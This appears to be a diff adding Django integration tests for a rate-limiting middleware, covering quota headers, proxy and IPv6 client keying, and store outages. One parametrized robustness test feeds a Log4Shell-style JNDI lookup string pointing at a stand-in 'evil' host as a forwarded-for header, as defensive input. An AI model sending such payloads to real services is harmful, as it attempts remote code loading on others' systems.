@@ -1,0 +1,289 @@
+"""RateLimitMiddleware and @ratelimit through Django's real handler (sync and async)."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import logging
+import random
+import re
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from django.contrib.auth.models import User
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import AsyncClient, Client, override_settings
+
+from demo.catalog.tokens import issue_token
+from prodready.ratelimit.store import get_limiter
+from tests.ratelimit.conftest import REDIS_URL
+from tests.servers import free_port, unique_prefix
+
+MIDDLEWARE = [
+    "django.middleware.common.CommonMiddleware",
+    "demo.catalog.auth.TokenAuthenticationMiddleware",
+    "prodready.ratelimit.RateLimitMiddleware",
+]
+LOCMEM = {
+    "default": {
+        "BACKEND": "django.core.cache.backends.locmem.LocMemCache",
+        "LOCATION": "ratelimit-tests",
+    }
+}
+
+
+def _prodready(rules: str, redis_url: str | None = REDIS_URL, **ratelimit: Any) -> dict[str, Any]:
+    return {
+        "REDIS_URL": redis_url,
+        # A generous store timeout: these tests are about counting, and a loaded
+        # machine must not turn a slow answer into a fail-open request.
+        "RATELIMIT": {"RULES": rules, "KEY_PREFIX": unique_prefix(), "TIMEOUT": 2, **ratelimit},
+    }
+
+
+@pytest.fixture
+def limited(request: pytest.FixtureRequest) -> Iterator[None]:
+    """Apply the test's rate-limit settings (from its ``limits`` marker) around it."""
+    marker = request.node.get_closest_marker("limits")
+    kwargs = dict(marker.kwargs) if marker else {}
+    rules = kwargs.pop("rules", "/api/ 3/m ip")
+    middleware = kwargs.pop("middleware", MIDDLEWARE)
+    with override_settings(
+        PRODREADY=_prodready(rules, **kwargs),
+        MIDDLEWARE=middleware,
+        ROOT_URLCONF="tests.ratelimit.urls",
+        CACHES=LOCMEM,
+    ):
+        yield
+        get_limiter().close()
+
+
+pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("limited")]
+
+
+def _statuses(client: Client, n: int, path: str = "/api/ok/", **extra: Any) -> list[int]:
+    return [client.get(path, **extra).status_code for _ in range(n)]
+
+
+def test_allowed_responses_carry_ratelimit_headers() -> None:
+    response = Client().get("/api/ok/")
+    assert response.status_code == 200
+    assert re.fullmatch(r'"ip-[0-9a-f]{8}";q=3;w=60', response.headers["RateLimit-Policy"])
+    assert re.fullmatch(
+        r'"ip-[0-9a-f]{8}";r=2;t=([1-9]|[1-5][0-9]|60)', response.headers["RateLimit"]
+    )
+
+
+def test_past_the_limit_answers_429_with_standard_headers() -> None:
+    client = Client()
+    assert _statuses(client, 3) == [200, 200, 200]
+    response = client.get("/api/ok/")
+    assert response.status_code == 429
+    body = json.loads(response.content)
+    assert set(body) == {"error", "detail", "retry_after"}
+    assert body["error"] == "rate_limited"
+    assert body["detail"].startswith("Too many requests: the limit is 3/m; retry in ")
+    assert response.headers["Retry-After"] == str(body["retry_after"])
+    assert 1 <= body["retry_after"] <= 60
+    assert response.headers["Cache-Control"] == "no-store"
+    assert response.headers["Content-Type"] == "application/json"
+    assert re.search(r";r=0;t=\d+$", response.headers["RateLimit"])
+
+
+def test_remaining_decreases_request_by_request() -> None:
+    client = Client()
+    remaining = [
+        int(re.findall(r";r=(\d+)", client.get("/api/ok/").headers["RateLimit"])[0])
+        for _ in range(3)
+    ]
+    assert remaining == [2, 1, 0]
+
+
+def test_exempt_views_and_unmatched_paths_are_never_limited() -> None:
+    client = Client()
+    assert _statuses(client, 5, "/api/liveness/") == [200] * 5
+    assert "RateLimit" not in client.get("/api/liveness/").headers
+    assert _statuses(client, 5, "/other/") == [200] * 5
+    assert "RateLimit" not in client.get("/other/").headers
+
+
+def test_async_path_limits_exactly() -> None:
+    async def run() -> list[int]:
+        client = AsyncClient()
+        statuses = [(await client.get("/api/aok/")).status_code for _ in range(5)]
+        await get_limiter().aclose()
+        return statuses
+
+    assert asyncio.run(run()) == [200, 200, 200, 429, 429]
+
+
+@pytest.mark.limits(rules="/api/ 100/m ip")
+def test_random_forwarded_for_is_ignored_without_trusted_proxies() -> None:
+    client = Client()
+    rng = random.Random(3)
+    statuses = [
+        client.get(
+            "/api/ok/", HTTP_X_FORWARDED_FOR=f"{rng.randrange(1, 255)}.{rng.randrange(255)}.0.1"
+        ).status_code
+        for _ in range(300)
+    ]
+    assert statuses.count(200) == 100
+    assert statuses.count(429) == 200
+
+
+@pytest.mark.limits(rules="/api/ 2/m ip", TRUSTED_PROXIES=1)
+def test_one_trusted_hop_keys_on_the_rightmost_entry() -> None:
+    client = Client()
+    spoofed = ["1.1.1.1, 203.0.113.7", "9.9.9.9, 8.8.8.8, 203.0.113.7", "203.0.113.7"]
+    assert [client.get("/api/ok/", HTTP_X_FORWARDED_FOR=h).status_code for h in spoofed] == [
+        200,
+        200,
+        429,
+    ]
+    assert client.get("/api/ok/", HTTP_X_FORWARDED_FOR="203.0.113.8").status_code == 200
+
+
+@pytest.mark.limits(rules="/api/ 2/m ip")
+def test_ipv6_clients_in_one_64_share_a_limit() -> None:
+    client = Client()
+    same_64 = ["2001:db8:0:1::1", "2001:db8:0:1::2", "2001:db8:0:1:ffff::9"]
+    assert [client.get("/api/ok/", REMOTE_ADDR=a).status_code for a in same_64] == [200, 200, 429]
+    assert client.get("/api/ok/", REMOTE_ADDR="2001:db8:0:2::1").status_code == 200
+    assert client.get("/api/ok/", REMOTE_ADDR="192.0.2.50").status_code == 200
+
+
+@pytest.mark.parametrize("hops", [0, 1], ids=["no-proxies", "one-hop"])
+@pytest.mark.parametrize(
+    "meta",
+    [
+        {"HTTP_X_FORWARDED_FOR": "a,b"},
+        {"HTTP_X_FORWARDED_FOR": "1.2.3.4:80"},
+        {"HTTP_X_FORWARDED_FOR": "x" * 10_240},
+        {"HTTP_X_FORWARDED_FOR": ""},
+        {"HTTP_X_FORWARDED_FOR": "${jndi:ldap://evil/a}"},
+        {"REMOTE_ADDR": ""},
+        {"REMOTE_ADDR": "a,b"},
+        {"REMOTE_ADDR": "1.2.3.4:80"},
+        {"REMOTE_ADDR": "x" * 10_240},
+    ],
+    ids=[
+        "xff-a-b",
+        "xff-port",
+        "xff-10kb",
+        "xff-empty",
+        "xff-jndi",
+        "remote-empty",
+        "remote-a-b",
+        "remote-port",
+        "remote-10kb",
+    ],
+)
+def test_junk_addresses_never_give_a_500(meta: dict[str, str], hops: int) -> None:
+    with override_settings(
+        PRODREADY=_prodready("/api/ 3/m ip", TRUSTED_PROXIES=hops), CACHES=LOCMEM
+    ):
+        client = Client()
+        statuses = _statuses(client, 5, **meta)
+        get_limiter().close()
+    assert set(statuses) <= {200, 400, 429}
+
+
+def test_unknown_client_address_is_a_clear_400() -> None:
+    response = Client().get("/api/ok/", REMOTE_ADDR="")
+    assert response.status_code == 400
+    assert json.loads(response.content)["error"] == "bad_request"
+
+
+def test_decorator_limits_one_view_and_its_methods() -> None:
+    client = Client()
+    assert [client.post("/decorated/").status_code for _ in range(3)] == [200, 200, 429]
+    assert _statuses(client, 3, "/decorated/") == [200, 200, 200]  # GET is not limited
+
+
+def test_decorator_on_an_async_view() -> None:
+    async def run() -> list[int]:
+        client = AsyncClient()
+        statuses = [(await client.get("/adecorated/")).status_code for _ in range(3)]
+        await get_limiter().aclose()
+        return statuses
+
+    assert asyncio.run(run()) == [200, 200, 429]
+
+
+def _closed_port_url() -> str:
+    return f"redis://127.0.0.1:{free_port()}/0"
+
+
+def test_store_down_fail_closed_answers_503_and_logs_once(
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    settings = _prodready("/api/ 3/m ip", redis_url=_closed_port_url(), FAIL_OPEN=False)
+    with override_settings(PRODREADY=settings), caplog.at_level(logging.WARNING, "prodready"):
+        client = Client()
+        responses = [client.get("/api/ok/") for _ in range(20)]
+        get_limiter().close()
+    assert {r.status_code for r in responses} == {503}
+    assert responses[0].headers["Retry-After"] == "1"
+    assert responses[0].headers["Cache-Control"] == "no-store"
+    assert json.loads(responses[0].content)["error"] == "rate_limit_unavailable"
+    warnings = [r.getMessage() for r in caplog.records if r.name == "prodready.ratelimit"]
+    assert len(warnings) == 1
+    assert warnings[0].startswith("rate-limit store unavailable (ConnectionError: ")
+    assert warnings[0].endswith("; refusing requests with 503 until it answers again")
+
+
+def test_store_down_fail_open_serves_and_logs_once(caplog: pytest.LogCaptureFixture) -> None:
+    settings = _prodready("/api/ 3/m ip", redis_url=_closed_port_url(), FAIL_OPEN=True)
+    with override_settings(PRODREADY=settings), caplog.at_level(logging.WARNING, "prodready"):
+        client = Client()
+        responses = [client.get("/api/ok/") for _ in range(20)]
+        get_limiter().close()
+    assert {r.status_code for r in responses} == {200}
+    assert "RateLimit" not in responses[0].headers
+    warnings = [r for r in caplog.records if r.name == "prodready.ratelimit"]
+    assert len(warnings) == 1
+
+
+@pytest.mark.django_db
+@pytest.mark.limits(rules="POST /api/ingest/ 100/h user; GET /api/ 1000/h ip")
+def test_seed_check_101st_ingest_is_429_and_keyed_by_user() -> None:
+    alice = issue_token(User.objects.create_user("alice"))
+    bob = issue_token(User.objects.create_user("bob"))
+    client = Client()
+
+    def post(token: str) -> int:
+        upload = SimpleUploadedFile("items.csv", b"title,rights_holder\nOde,Ann\n", "text/csv")
+        return client.post(
+            "/api/ingest/", {"file": upload}, HTTP_AUTHORIZATION=f"Token {token}"
+        ).status_code
+
+    statuses = [post(alice) for _ in range(101)]
+    assert statuses[:100] == [201] * 100
+    assert statuses[100] == 429
+    # Same address, another user: a quota of its own.
+    assert post(bob) == 201
+
+
+@pytest.mark.django_db
+@pytest.mark.limits(
+    rules="POST /api/ingest/ 2/h user",
+    middleware=[
+        "prodready.ratelimit.RateLimitMiddleware",  # wrong: before authentication
+        "demo.catalog.auth.TokenAuthenticationMiddleware",
+    ],
+)
+def test_ratelimit_before_authentication_cannot_see_the_user() -> None:
+    # Documents why RateLimitMiddleware must come after the authenticating one:
+    # placed before it, a 'user' rule sees only anonymous requests and never applies.
+    token = issue_token(User.objects.create_user("carol"))
+    client = Client()
+    statuses = []
+    for _ in range(3):
+        upload = SimpleUploadedFile("items.csv", b"title,rights_holder\nOde,Ann\n", "text/csv")
+        statuses.append(
+            client.post(
+                "/api/ingest/", {"file": upload}, HTTP_AUTHORIZATION=f"Token {token}"
+            ).status_code
+        )
+    assert statuses == [201, 201, 201]
